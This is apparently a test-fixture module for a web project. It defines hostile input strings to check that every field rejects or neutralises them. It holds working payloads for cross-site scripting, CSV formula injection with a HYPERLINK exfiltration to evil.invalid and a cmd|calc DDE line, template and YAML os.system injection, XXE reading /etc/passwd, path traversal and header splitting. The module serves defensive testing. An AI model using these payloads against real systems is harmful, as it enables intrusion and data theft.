"""Hostile text: the kinds that are put into every field, and what no field may take.

Everything that could run calls `zq()`, and everything that could be fetched is at https://evil.invalid/
(RFC 6761 keeps that name free), so that a browser tells when any of it works.
"""

# ruff: noqa: E501 - each text stays in one piece
import re
from dataclasses import dataclass, replace
from functools import cache
from zlib import crc32

from tracker.stages.reading.parse import UnreadableError, parsed

HERE = "HERE"
"""Where the texts in Markdown have room: between two paragraphs that show where they begin and end."""
_CLOSED = "--></script></style>"  # or what follows in the text would be hidden, the end of it too
_ADDRESS = "/'onload=zq()//&quot;&gt;&lt;script&gt;zq()`${zq()}{{7*7}});url(javascript:zq())"


@dataclass(frozen=True, slots=True)
class Injection:
    """A kind of hostile text.

    `text` stands behind a value and one of `before` in front of it. `short` is for fields without room,
    `address` for those that take only addresses, and `prose` for texts in Markdown, where it differs.
    """

    name: str
    text: str
    short: str
    address: str = _ADDRESS
    before: tuple[str, ...] = ("",)
    prose: str = ""

    def forms(self, value: str) -> tuple[str, ...]:
        """A value in the forms in which it can be hostile, the nastiest first.

        A marker behind its own words tells where it ends up. The same words have the same form, so that
        references between records still hold.
        """
        if HERE in value:
            return (value.replace(HERE, readable(marker(value) + (self.prose or self.text) + _CLOSED)),)
        begun = self.before[crc32(value.casefold().encode()) % len(self.before)]
        marked = f"{value} {marker(value)}"
        forms = (
            f"{begun}{marked}{self.text}",
            f"{begun}{marked}{self.short}",
            f"{marked}{self.short}",
            f"{value}{self.address}",
        )
        return tuple(map(readable, forms))

    def harmless(self) -> "Injection":
        """The same with dots for all that is neither letter nor digit: as long, and of the same address."""
        address = re.sub(r"[^\w/.#]", "-", self.address)
        before = tuple(dotted(readable(part)) for part in self.before)
        text, short, prose = (dotted(readable(part)) for part in (self.text, self.short, self.prose))
        return replace(self, text=text, short=short, address=address, before=before, prose=prose)


@cache
def readable(text: str) -> str:
    """A text without the signs that no record may have."""
    try:
        parsed('"' + "".join(f"\\U{ord(sign):08x}" for sign in text) + '"')
    except UnreadableError:
        return "".join(map(readable, text)) if len(text) > 1 else ""
    return text


def dotted(text: str) -> str:
    """A text in which nothing has a meaning to any program."""
    return re.sub(r"[^\w ]", "·", text)


def marker(value: str) -> str:
    """What a value is recognised by, the same in capitals and in small letters."""
    return f"zq{crc32(value.casefold().encode()):08x}"


INJECTIONS = (
    Injection(
        "HTML elements",
        '"><script>zq()</script><img src=x onerror=zq()><img src="https://evil.invalid/i" srcset="//evil.invalid/s 2x">'
        '<iframe src="javascript:zq()"></iframe><iframe srcdoc="<script>zq()</script>"></iframe>'
        '<object data="https://evil.invalid/o"></object><embed src="//evil.invalid/e"><video poster=//evil.invalid/p '
        "onloadstart=zq()><source onerror=zq()></video><details open ontoggle=zq()><input autofocus onfocus=zq()>"
        '<form action="https://evil.invalid/"><button formaction="javascript:zq()">b</button></form>'
        '<base href="https://evil.invalid/"><link rel=stylesheet href="//evil.invalid/c"><a href="javascript:zq()" '
        'ping="//evil.invalid/">a</a><meta http-equiv=refresh content="0;url=//evil.invalid/"><marquee onstart=zq()>'
        "<body onload=zq()><b class=zq>b</b></textarea></title></noscript></template></select></q></p></div></main>",
        '"><img src=x onerror=zq()>',
    ),
    Injection(
        "attributes",
        "\" onmouseover=\"zq()\" autofocus onfocus=\"zq()\" x=\"' onmouseover='zq()' autofocus onfocus='zq()' x='"
        "` onload=zq() `/onpointerenter=zq()/ tabindex=1 onfocus=zq() style=position:fixed;inset:0 onclick=zq()//"
        '"/><x onclick=zq()>&quot; onfocus=zq() &#34; onfocus=zq() &#x22;onfocus=zq() &apos;onfocus=zq() \\" onx=zq()',
        "\" onfocus=zq() autofocus x='",
        before=('"', "'", "`", "&quot;", ""),
        prose='[a](https://example.org/ "t\\" onfocus=zq() autofocus x=") <a href="https://example.org/"'
        ' title="<h2>onclick</h2><img src=x onerror=zq()><table><pre>" onclick="zq()" style="x" id="main" '
        'target="_blank" name=zq class="masthead">a</a> <abbr title=\'"><img src=x onerror=zq()>\'>b</abbr>'
        ' <p id=search onclick=zq()>c</p> href="/timeline/" src="/x/<b',
    ),
    Injection(
        "schemes of addresses",
        " javascript:zq() JaVaScRiPt:zq() data:text/html,<script>zq()</script> vbscript:zq() //evil.invalid/ "
        "https:evil.invalid \\\\evil.invalid\\x /\\evil.invalid jar:x!/ file:///etc/passwd blob:x feed:javascript:zq()",
        " javascript:zq()",
        before=("javascript:zq()//", "JaVaScRiPt:zq()//", "java\tscript:zq()//", "&#106;avascript&colon;zq()//",
                "data:text/html,<script>zq()</script>", "vbscript:zq()//", "//evil.invalid/", "\\\\evil.invalid/"),
        prose='<a href="javascript:zq()">a</a><a href="&#106;avascript&colon;zq()">b</a><a href="java&#10;script:zq()">'
        'c</a><a href=" &#1;JaVaScRiPt:zq()">d</a><a href="data:text/html,<script>zq()</script>">e</a>'
        '<a href="vbscript:zq()">f</a> [g][r] <javascript:zq()> [r]\n\n[r]: javascript:zq() "t"',
    ),
    Injection(
        "SVG",
        '</text></desc></title></svg><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
        ' onload="zq()"><script>zq()</script><script xlink:href="https://evil.invalid/s"/><foreignObject><iframe '
        'xmlns="http://www.w3.org/1999/xhtml" src="javascript:zq()"/></foreignObject><a xlink:href="javascript:zq()">'
        '<text>t</text><animate attributeName="href" values="javascript:zq()"/></a><set attributeName="onmouseover" '
        'to="zq()"/><use href="https://evil.invalid/u#x"/><image href="https://evil.invalid/i"/><style>*{fill:url('
        "https://evil.invalid/f)}</style> $\\frac{1}{0}$ $x^2$ \\$ _{z} ^",
        "</text><script>zq()</script>",
        prose="<svg onload=zq()><script>zq()</script></svg><svg><title><img src=x onerror=zq()></title></svg><math><mtext><table><mglyph><style>"
        "<a title='</style><img src=x onerror=zq()>'>x</a></style></mglyph></table></mtext></math>",
    ),
    Injection(
        "CSS",
        "</style><style>*{background:url(https://evil.invalid/b)}@import 'https://evil.invalid/i.css';</style>"
        "};*{background:url(//evil.invalid/c);-moz-binding:url(//evil.invalid/x#x);behavior:url(x);width:expression("
        "zq())}/* \\27 \\3c/style> */ ;color:red;position:fixed; <link rel=preload as=style href=//evil.invalid/p>",
        "</style><style>*{color:red}",
        prose='<style>*{background:url(https://evil.invalid/b)}</style><p style="background:url(//evil.invalid/)">x</p>',
    ),
    Injection(
        "Markdown",
        "[a](javascript:zq()) ![i](https://evil.invalid/i) <https://evil.invalid/> **b** _e_ `code` ~~s~~ [r]"
        "\n\n# h\n\n> q\n\n- l\n\n| t | u |\n|---|---|\n| v | w |\n\n```\nx\n```\n\n***\n\n[r]: javascript:zq()\n\n"
        "    code\n\n<b>raw</b> [^1] {#id .class onclick=zq()}",
        "**b** <https://evil.invalid/>",
        prose='[a]( <https://example.org/?"onfocus=zq()> ) <https://example.org/"onfocus=zq()> <zq@example.org> `<b>`'
        " [r] [s][] \\<b> &lt;script&gt;zq()&lt;/script&gt; <b\n><script\n>zq()</script><!-- > <img src=x onerror=zq()>"
        "\n\n~~~ \"><script>zq()</script>\n<script>zq()</script>\n~~~\n\n| a | <img src=x onerror=zq()> |\n|---|---|\n"
        '| `|` | "onclick=zq() |\n\n## h <script>zq()</script> {onclick=zq()}\n\n<table><tr><td onclick=zq()>x\n\n'
        '[r]: javascript:zq() "t"\n[s]: <data:text/html,x> \'"onfocus=zq()\'\n\n<div markdown="1" onclick=zq()>**x**</div>',
    ),
    Injection(
        "JSON in scripts",
        "</script><script>zq()</script><!--<script> \\u003c/script> \\\"}],\"@type\":\"x\",\"a\":[{\" \\ \\\\ "
        "\u2028zq()\u2029 */zq()/* ']];zq();//  ${zq()} `${zq()}` \\`-zq()-` </SCRIPT/x><script src=//evil.invalid/s>",
        "</script><script>zq()</script>",
        before=("</script><script>zq()</script>", "<!--<script>", '"', "\\", "${zq()}", ""),
    ),
    Injection(
        "XML",
        ']]><script xmlns="http://www.w3.org/1999/xhtml">zq()</script><![CDATA[ &x; &#x3c; &amp; <!DOCTYPE x [<!ENTITY '
        'e SYSTEM "file:///etc/passwd">]>&e; <?xml-stylesheet href="https://evil.invalid/x.xsl" type="text/xsl"?> '
        '<?php zq() ?> --> </p></div></content></entry></feed></urlset><link rel="alternate" href="javascript:zq()"/>',
        "]]><![CDATA[ &x; <?x ?>",
    ),
    Injection(
        "formulas",
        '",=1+1,"\n=1+1\t@SUM(1)\r\n+1;=1+1',
        "=1+1",
        before=('=HYPERLINK("https://evil.invalid/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)", '"=1+1"', "'=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=", "+", "-", "@"),
    ),
    Injection(
        "templates",
        '{{ 7*191 }}{% include "layouts/base.html" %}{# c #}{{ cycler.__init__.__globals__ }}{%- raw -%} ${7*191} '
        "#{7*191} <%= 7*191 %> %s %(x)s {0} {site} {__class__} \\g<0> \\1 \\x41 !!python/object/apply:os.system [x] &a *a",
        "{{ 7*191 }}{% raw %}",
        before=("{{ 7*191 }}", "{% raw %}", "{#", "{site}", "!!python/none ", "&a ", "*a", "%s", "? ", ""),
    ),
    Injection(
        "parts of addresses",
        " #:~:text=a,-b&text=c--d, “x” -&directive=1#main?q=<b>&amp;amp;lt; %3Cscript%3E%00%0d%0a ../../../etc/passwd "
        "..%2f..%2f \\..\\.. ;x=y @evil.invalid :80 //evil.invalid/",
        "#:~:text=a,-b&c",
        "?a=b&amp=1&lt=2&#x22;onx=zq()%22%3E%0d%0a/../../..//evil.invalid#:~:text=a,-b&x='`",
        before=("#main ", "../../../", "%2e%2e/", "?q=", "//evil.invalid/", "-"),
    ),
    Injection(
        "lines and signs",
        " a\r\nSet-Cookie: zq=1\r\n\r\n<b>x</b>\x85b\u2028c\u2029d\te \u202e\u2066gpj.<b>\u2069\u200b\ufeff\u00ad\u061c"
        " \ufffd \ue000 ﹤script﹥ ＜script＞ ʼ onx=zq() ‹›«» \x7e\xa0e\u0301 ſcript İ",
        "\r\nX: y\u202e\u2028<b>",
        before=("\u202e", "\ufeff<b>", "\u200b=1+1", "\u2066", ""),
    ),
    Injection(
        "comments",
        " <!-- --><!--><b>x</b> --!> <b>x</b> <![endif]--> <! <!-> <?x> </x> <plaintext> <xmp> <noembed> <![CDATA[ /*"
        " // -- # ''' \"\"\" {# <!--",
        "<!-- --><!--><plaintext>",
        before=("<!--", "-->", "<plaintext>", "/*", ""),
        prose=" <!-- --><!--><b>x</b> --!> <![endif]--> <! <!-> <?x> </x> <xmp></xmp> <noembed></noembed> <![CDATA[ <!--",
    ),
)  # fmt: skip

MIXED = Injection(
    "a little of each",
    " ".join(injection.short for injection in INJECTIONS),
    '"><img src=x onerror=zq()>',
    before=tuple(dict.fromkeys(begun for injection in INJECTIONS for begun in injection.before)),
    prose=" ".join(
        injection.prose for injection in INJECTIONS if injection.name in {"attributes", "Markdown"}
    ),
)
"""What is tried where there is no time for all of them."""
ADDRESSES = (
    "javascript:zq()", "JaVaScRiPt:zq()", "java\tscript:zq()", "\tjavascript:zq()", "javascript://example.org/%0azq()",
    "data:text/html,<script>zq()</script>", "vbscript:zq()", "//evil.invalid/", "\\\\evil.invalid/", "/\\evil.invalid/",
    "https:evil.invalid", "https:/evil.invalid", "https:///evil.invalid", "http://", "https://a@evil.invalid/",
    "https://a:b@evil.invalid/", 'https://example.org/"onfocus=zq()', "https://example.org/<script>", "ftp://evil.invalid/",
    "https://example.org/\\@evil.invalid", "https://example.org/ onfocus=zq()", "https://example.org/\nX: y",
    "https://[evil", "file:///etc/passwd", "../../etc/passwd", "feed:https://example.org/", "&#106;avascript:zq()",
)  # fmt: skip
"""What no field for an address may take."""

NAMES = (
    "../../etc/passwd", "a/../b", "..", ".", "a/b", "a\\b", "con.", "a b", "A", "a\nb", "<b>", "a'b", 'a"b', "é",
    "a:b", "a%2fb", "-a", "a--b", "a;b", "javascript:zq()", "{{7*7}}", "\u202ea", "a\u200b", "ａ", "a.html", "a#b", "a?b",
)  # fmt: skip
"""What no name of a record, which is a part of its address, may be."""

SIGNS = tuple(
    chr(code) for code in (*range(9), 11, 12, *range(14, 32), *range(127, 133), 134, 159, 0xFFFE, 0xFFFF)
)
"""Control characters, which no file may have, whether as such or written as an escape."""

PROSE = (
    "[a](javascript:zq())", "[a](JaVaScRiPt:zq())", "[a](data:text/html,x)", "[a](//evil.invalid/)", "[a](vbscript:zq())",
    "![i](https://evil.invalid/i)", "[a](<javascript:zq()>)", "[a](java&#115;cript:zq())", "[a](&#106;avascript:zq())",
    '<a href="//evil.invalid/">a</a>', '<a href="/\\evil.invalid/">a</a>', "[a][r]\n\n[r]: //evil.invalid/",
    '<a href="\\\\evil.invalid/">a</a>', "[a](\\\\evil.invalid/)", "[a](../../../../etc/passwd)", "[a][r]\n\n[r]: ../../x",
    '<a href="https:evil.invalid">a</a>', "[a][r]\n\n[r]: ftp://evil.invalid/",
)  # fmt: skip
"""Markdown that is refused, or of which nothing comes out that leads astray."""
